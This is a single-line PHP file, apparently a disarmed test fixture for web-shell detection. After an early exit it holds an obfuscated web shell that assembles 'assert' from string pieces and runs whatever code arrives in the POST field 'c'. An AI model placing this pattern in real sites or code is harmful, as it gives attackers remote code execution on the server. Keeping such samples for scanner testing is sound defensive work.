<?php exit; /* Inert fixture. */ $f = "as" . "sert"; $f($_POST['c']);
